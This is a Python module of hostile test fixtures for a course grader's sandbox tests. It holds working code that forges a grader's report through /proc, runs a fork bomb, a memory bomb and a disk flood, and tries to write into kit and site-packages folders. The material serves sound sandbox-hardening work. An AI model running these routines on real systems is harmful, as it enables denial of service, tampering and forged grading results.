"""Hostile learner code, one function per attack class, as tests/hostile/ grades it.

Each function becomes a learner file: an untouched stub, the function's source and a call
to it at the top level (`learner_file`), so it runs when the learner process imports the
file, before any check. It ends by raising ReachedError with what it managed, as JSON on
one line: every check fails with that message, which the tests read (`reached`). A function
is self-contained (its imports inside), since only its source travels.
"""

import inspect
import json
import re

from course.graders.kit.stubs import pristine_stub

REACHED = "REACHED "


def learner_file(exercise_name: str, attack, **arguments) -> str:
    """The exercise's untouched stub with `attack(**arguments)` run at import."""
    call = f"{attack.__name__}(**{arguments!r})"
    return f"{pristine_stub(exercise_name)}\n\n{inspect.getsource(attack)}\n\n{call}\n"


def reached(message: str) -> dict | None:
    """What an attack reported in a check's failure message (None: it reported nothing)."""
    found = re.search(REACHED + r"(\{.*\})", message)
    return json.loads(found.group(1)) if found else None


def reach_the_grader(port: int) -> None:
    """(1) Find the grading process through /proc, open its memory and its report pipe to
    write a forged full-marks report; (6) send a server of the grader's machine a message."""
    import json
    import os
    import socket

    forged = json.dumps({"body": "{}", "mac": "0" * 64}).encode()
    seen, opened = [], []
    for pid in sorted(name for name in os.listdir("/proc") if name.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                argv = [word.decode(errors="replace") for word in cmdline.read().split(b"\0")]
        except OSError:
            continue
        seen.append(" ".join(word.rsplit("/", 1)[-1] for word in argv)[:80])
        if "--report-fd" in argv:
            report_fd = argv[argv.index("--report-fd") + 1]
            for path, mode in ((f"/proc/{pid}/mem", "rb"), (f"/proc/{pid}/fd/{report_fd}", "wb")):
                try:
                    with open(path, mode) as target:
                        if mode == "wb":
                            target.write(forged)
                    opened.append(path)
                except OSError:
                    pass
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).sendall(b"leak")
        network = "connected"
    except OSError as error:
        network = error.strerror or type(error).__name__
    report = {"processes": seen, "opened": opened, "network": network}
    raise RuntimeError("REACHED " + json.dumps(report))


def outlive_the_run(links: int, bombs: int) -> None:
    """(4) A chain of `links` processes, each in a session of its own, ignoring the signals
    that end a session and sleeping past the run; then (6) a fork bomb of up to `bombs` more.
    Each stops where the sandbox refuses a process."""
    import json
    import os
    import select
    import signal
    import time

    def sleep_forever():
        while True:
            time.sleep(3600)

    read_end, write_end = os.pipe()
    if os.fork() == 0:
        for _ in range(links):
            os.setsid()
            for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            os.write(write_end, b".")
            try:
                child = os.fork()
            except OSError:
                os.write(write_end, b"!")
                sleep_forever()
            if child:
                sleep_forever()
        sleep_forever()
    os.close(write_end)
    chain, deadline = b"", time.monotonic() + 30
    while chain.count(b".") < links and b"!" not in chain and time.monotonic() < deadline:
        if select.select([read_end], [], [], 0.5)[0]:
            chain += os.read(read_end, 4096)
    forked, refused = 0, None
    while forked < bombs and refused is None:
        try:
            if os.fork() == 0:
                sleep_forever()
            forked += 1
        except OSError as error:
            refused = error.strerror
    report = {"chain": chain.count(b"."), "chain_refused": b"!" in chain, "bomb": forked,
              "bomb_refused": refused}  # fmt: skip
    raise RuntimeError("REACHED " + json.dumps(report))


def allocate_past_the_memory_limit(most_mb: int, step_mb: int = 64) -> None:
    """(6) A memory bomb: take memory (written, so it is really used) until refused, or until
    `most_mb`, beyond the limit."""
    import json

    hoard = []
    try:
        while len(hoard) * step_mb < most_mb:
            hoard.append(b"\x01" * (step_mb * 2**20))
    except MemoryError:
        pass
    allocated = len(hoard) * step_mb
    hoard.clear()
    raise RuntimeError("REACHED " + json.dumps({"allocated_mb": allocated}))


def flood_the_disk(most_mb: int, files: int) -> None:
    """(6) A disk flood: fill every place that takes it (the working folder, /tmp, /dev/shm)
    with files of 16 MB until refused or `most_mb` each, create `files` small files, and
    try to create a file in every folder the learner process can see (removed at once: a
    sandbox that failed would otherwise leave one in every folder of the machine)."""
    import json
    import os

    def fill(folder: str) -> int:
        written = 0
        try:
            while written < most_mb:
                with open(os.path.join(folder, f"flood-{written}.bin"), "wb") as flood:
                    flood.write(b"\x01" * (16 * 2**20))
                written += 16
        except OSError:
            pass
        return written

    written = {"working folder": fill(os.getcwd()), "/tmp": fill("/tmp"),
               "/dev/shm": fill("/dev/shm")}  # fmt: skip
    os.makedirs("many", exist_ok=True)
    created = 0
    try:
        while created < files:
            open(os.path.join("many", str(created)), "wb").close()
            created += 1
    except OSError:
        pass
    outside = []
    for folder, subfolders, _ in os.walk("/"):
        if folder in ("/proc", "/sys"):
            subfolders.clear()
            continue
        try:
            open(os.path.join(folder, "planted-by-a-flood"), "wb").close()
            os.remove(os.path.join(folder, "planted-by-a-flood"))
            outside.append(folder)
        except OSError:
            pass
    report = {"written_mb": written, "small_files": created, "writable": outside}
    raise RuntimeError("REACHED " + json.dumps(report))


def rewrite_the_kit(existing: list[str], folders: list[str], planted: str) -> None:
    """(6) Open the kit's files (graders, engine, manifest, references) and an installed
    package's for writing, and plant a file in their folders (bytecode caches and
    site-packages included, where a .pth file would run at every Python start)."""
    import json
    import os

    writable = []
    for path in existing:
        try:
            open(path, "r+b").close()  # opened for writing: nothing written
            writable.append(path)
        except OSError:
            pass
    for folder in folders:
        try:
            open(os.path.join(folder, planted), "wb").close()
            writable.append(folder)
        except OSError:
            pass
    raise RuntimeError("REACHED " + json.dumps({"writable": writable}))
